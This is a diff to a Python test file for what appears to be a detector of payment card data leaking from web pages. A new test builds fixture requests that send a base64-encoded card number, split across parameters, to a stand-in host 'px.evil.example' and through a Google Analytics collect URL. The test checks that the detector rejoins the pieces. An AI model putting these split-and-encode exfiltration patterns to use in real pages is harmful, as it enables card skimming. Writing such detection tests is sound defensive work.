@@ -6,6 +6,7 @@ from __future__ import annotations
 import base64
 import json
 import re
+import urllib.parse
 
 import pytest
 
@@ -343,6 +344,18 @@ def test_a_card_cut_into_pieces_over_requests_is_joined() -> None:
     bodies = [request("https://px.evil.example/c", part) for part in _chunks(CARD, 7)]
     [f], _ = findings_for(*bodies)
     assert "body, joined" in f.evidence["where"]
+
+
+def test_a_card_cut_over_the_parameters_of_one_request_is_joined() -> None:
+    blob = base64.b64encode(CARD.encode()).decode()
+    body = "v=1&t=event&ea=" + urllib.parse.quote(blob[:27]) + "&el=" + urllib.parse.quote(
+        blob[27:])
+    [f], _ = findings_for(request("https://www.google-analytics.com/collect", body))
+    assert f.evidence["where"] == "body (its parameters joined)"
+    assert "joined" in f.message
+    url = "https://px.evil.example/c?a=" + blob[:27] + "&b=" + blob[27:]
+    [f], _ = findings_for(request(url, None, method="GET"))
+    assert f.evidence["where"] == "url (its parameters joined)"
 
 
 def test_pieces_to_different_addresses_or_senders_are_not_joined() -> None:
